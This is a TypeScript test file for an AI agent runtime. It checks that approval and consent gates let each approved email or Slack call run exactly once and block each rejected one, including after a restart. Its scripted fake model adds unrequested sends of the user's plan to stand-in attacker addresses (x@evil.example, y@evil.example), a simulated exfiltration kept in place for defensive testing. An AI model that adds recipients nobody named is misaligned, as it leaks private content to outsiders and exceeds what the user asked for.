/**
 * Exactly once when approvals and consent mix: decisions are durable (they live in the
 * checkpoint), consent may arrive between them, the process may restart between a decision and
 * the run, and still every approved call runs once and every rejected one never.
 */
import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import type { ToolAuditRecord } from "../../../src/agent/authorization-middleware.js";
import { createChatModel } from "../../../src/agent/model.js";
import type { AgentRuntime } from "../../../src/runtime/agent-runtime.js";
import type { RuntimeEvent } from "../../../src/runtime/events.js";
import { type Sandbox, startSandbox } from "../../../src/sandbox/index.js";
import { startFakeOpenAI } from "../../helpers/fake-openai-server.js";
import { collect, runtimeOn, waitFor } from "../../helpers/sandbox-runtime.js";

const cleanups: (() => Promise<unknown> | unknown)[] = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
});

const USER = { userId: "mia" };
const THREAD = { ...USER, threadId: "t-mix" };
/** The person names sam@example.com and #team; the model adds two addresses she never named. */
const REQUEST = "email the plan to sam@example.com and post 'plan is out' to #team";

async function setUp() {
  const sandbox = await startSandbox({ timeZone: "UTC" });
  cleanups.push(() => sandbox.close());
  const openai = await startFakeOpenAI();
  cleanups.push(() => openai.close());
  openai.setResponder((body) => {
    if (body.messages.at(-1)?.role === "tool") return { text: "Done what was allowed." };
    const send = (to: string) => ({
      name: "gmail_send_message",
      args: { to: [to], subject: "Plan", body: `for ${to}` },
    });
    return {
      toolCalls: [
        send("sam@example.com"),
        send("x@evil.example"),
        send("y@evil.example"),
        { name: "slack_post_message", args: { channel: "#team", text: "plan is out" } },
      ],
    };
  });
  const databaseUrl = join(mkdtempSync(join(tmpdir(), "delegate-approvals-")), "delegate.sqlite");
  const events: RuntimeEvent[] = [];
  const audits: ToolAuditRecord[] = [];
  const open = async (): Promise<AgentRuntime> => {
    const runtime = await runtimeOn(sandbox, {
      model: (await createChatModel({ baseUrl: openai.url, apiKey: "sk", model: "m", maxRetries: 0 })).model,
      webhookSecret: sandbox.webhookSecret,
      databaseUrl,
      poll: { initialIntervalMs: 20, maxIntervalMs: 50, backoff: 1.5 },
      onEvent: (event) => events.push(event),
      onToolAudit: (record) => audits.push(record),
    });
    const stop = sandbox.deliverWebhooks((input) => runtime.handleWebhook(input));
    cleanups.push(async () => {
      stop();
      await runtime.close();
    });
    return runtime;
  };
  return { sandbox, openai, events, audits, open };
}

function sentTo(sandbox: Sandbox, address: string): number {
  return sandbox.emulators.gmail
    .inspect(USER.userId)
    .messages.filter((m) => m.labelIds.includes("SENT") && (m.headers.to ?? "").includes(address)).length;
}
/** Mail sent to any of the batch's recipients. */
const sentAny = (sandbox: Sandbox) =>
  ["sam@example.com", "x@evil.example", "y@evil.example"].reduce(
    (sum, address) => sum + sentTo(sandbox, address),
    0,
  );
function posts(sandbox: Sandbox): number {
  return sandbox.emulators.slack
    .inspect(USER.userId)
    .messages("#team")
    .filter((m) => m.text === "plan is out").length;
}
const required = (events: RuntimeEvent[]) =>
  events.filter(
    (event): event is Extract<RuntimeEvent, { type: "authorization-required" }> =>
      event.type === "authorization-required",
  );

describe("approvals and consent in one batch", () => {
  it("one interrupt lists both; approve one, reject another, consent in between: each runs once or never", async () => {
    const { sandbox, events, audits, open } = await setUp();
    const runtime = await open();
    await collect(runtime.send({ ...THREAD, text: REQUEST, waitForAuthorization: false }));
    const [first] = required(events);
    // One interrupt: both connections and both foreign recipients.
    expect(first?.requests.map((request) => request.connector).sort()).toEqual(["gmail", "slack"]);
    expect(first?.approvals.map((approval) => approval.targets[0]?.display).sort()).toEqual([
      "x@evil.example",
      "y@evil.example",
    ]);
    // Gmail connects before the person decides: nothing may run yet.
    await sandbox.controls.approve(USER, "gmail");
    await waitFor(
      () => events.some((event) => event.type === "authorization-completed"),
      10_000,
      "gmail progress",
    );
    expect(sentAny(sandbox)).toBe(0);
    const ids = Object.fromEntries(
      (first?.approvals ?? []).map((a) => [a.targets[0]?.display, a.toolCallId]),
    );
    await collect(
      runtime.decide({
        ...THREAD,
        decisions: [
          { toolCallId: ids["x@evil.example"] as string, type: "approve" },
          { toolCallId: ids["y@evil.example"] as string, type: "reject", message: "not her" },
        ],
      }),
    );
    // Decided, but Slack is still missing: the thread waits for it alone, and still nothing ran.
    const again = required(events).at(-1);
    expect(again?.approvals).toEqual([]);
    expect(again?.requests.map((request) => request.connector)).toEqual(["slack"]);
    expect(sentAny(sandbox)).toBe(0);
    await sandbox.controls.approve(USER, "slack");
    await waitFor(() => events.some((event) => event.type === "turn-end"), 15_000, "the turn to end");
    expect(sentTo(sandbox, "sam@example.com")).toBe(1);
    expect(sentTo(sandbox, "x@evil.example")).toBe(1);
    expect(sentTo(sandbox, "y@evil.example")).toBe(0);
    expect(posts(sandbox)).toBe(1);
    // The audit says who let each call run: the person named sam and #team (auto), approved x.
    const byTarget = (target: string) =>
      audits.filter((record) => record.outcome === "success" && calls(target).includes(record.toolCallId));
    const calls = (target: string) =>
      events.flatMap((event) =>
        event.type === "tool-call" && JSON.stringify(event.args).includes(target) ? [event.toolCallId] : [],
      );
    expect(byTarget("sam@example.com").map((record) => record.allowedBy)).toEqual(["auto"]);
    expect(byTarget("#team").map((record) => record.allowedBy)).toEqual(["auto"]);
    expect(byTarget("x@evil.example").map((record) => record.allowedBy)).toEqual(["person"]);
    expect(audits.find((record) => calls("y@evil.example").includes(record.toolCallId))?.outcome).toBe(
      "declined",
    );
    const results = events.filter((event) => event.type === "tool-result");
    expect(results).toHaveLength(4);
    expect(results.filter((event) => event.type === "tool-result" && event.status === "error")).toHaveLength(
      1,
    );
  });

  it("a restart between the decision and the run: another process runs the approved calls exactly once", async () => {
    const { sandbox, openai, events, open } = await setUp();
    const a = await open();
    await collect(a.send({ ...THREAD, text: REQUEST, waitForAuthorization: false }));
    const [first] = required(events);
    const decisions = (first?.approvals ?? []).map((approval) => ({
      toolCallId: approval.toolCallId,
      type: approval.targets[0]?.display === "x@evil.example" ? ("approve" as const) : ("reject" as const),
    }));
    await collect(a.decide({ ...THREAD, decisions }));
    expect(required(events).at(-1)?.approvals).toEqual([]);
    // The process goes away with its decisions only in the database.
    await a.close();
    const modelCalls = openai.requests.length;
    const b = await open();
    await sandbox.controls.approve(USER, "gmail");
    await sandbox.controls.approve(USER, "slack");
    await waitFor(() => events.some((event) => event.type === "turn-end"), 15_000, "the turn to end on b");
    expect(sentTo(sandbox, "sam@example.com")).toBe(1);
    expect(sentTo(sandbox, "x@evil.example")).toBe(1);
    expect(sentTo(sandbox, "y@evil.example")).toBe(0);
    expect(posts(sandbox)).toBe(1);
    // The batch was not planned again: only the final answer was asked of the model.
    expect(openai.requests.length).toBe(modelCalls + 1);
    const thread = await b.getThread(THREAD);
    expect(thread.pendingAuthorization).toBeUndefined();
    // A second decision on a thread that no longer waits changes nothing.
    await expect(collect(b.decide({ ...THREAD, decisions }))).rejects.toMatchObject({
      code: "THREAD_NOT_WAITING",
    });
    expect(sentTo(sandbox, "x@evil.example")).toBe(1);
  });

  it("rejecting every call that needs an account stops asking for that account", async () => {
    const { sandbox, openai, events, open } = await setUp();
    openai.setResponder((body) => {
      if (body.messages.at(-1)?.role === "tool") return { text: "Nothing sent." };
      return {
        toolCalls: [
          { name: "gmail_send_message", args: { to: ["x@evil.example"], subject: "s", body: "b" } },
        ],
      };
    });
    const runtime = await open();
    const stream = collect(runtime.send({ ...THREAD, text: "forward it" }));
    await waitFor(() => required(events).length > 0, 10_000, "the interrupt");
    const [first] = required(events);
    expect(first?.requests.map((request) => request.connector)).toEqual(["gmail"]);
    await collect(
      runtime.decide({
        ...THREAD,
        decisions: [{ toolCallId: first?.approvals[0]?.toolCallId as string, type: "reject" }],
      }),
    );
    const done = await stream;
    expect(done.at(-1)).toMatchObject({ type: "turn-end", status: "completed" });
    expect(required(events)).toHaveLength(1);
    expect(sandbox.controls.status(USER, "gmail")).not.toBe("ACTIVE");
    expect((await runtime.getThread(THREAD)).pendingAuthorization).toBeUndefined();
  });
});
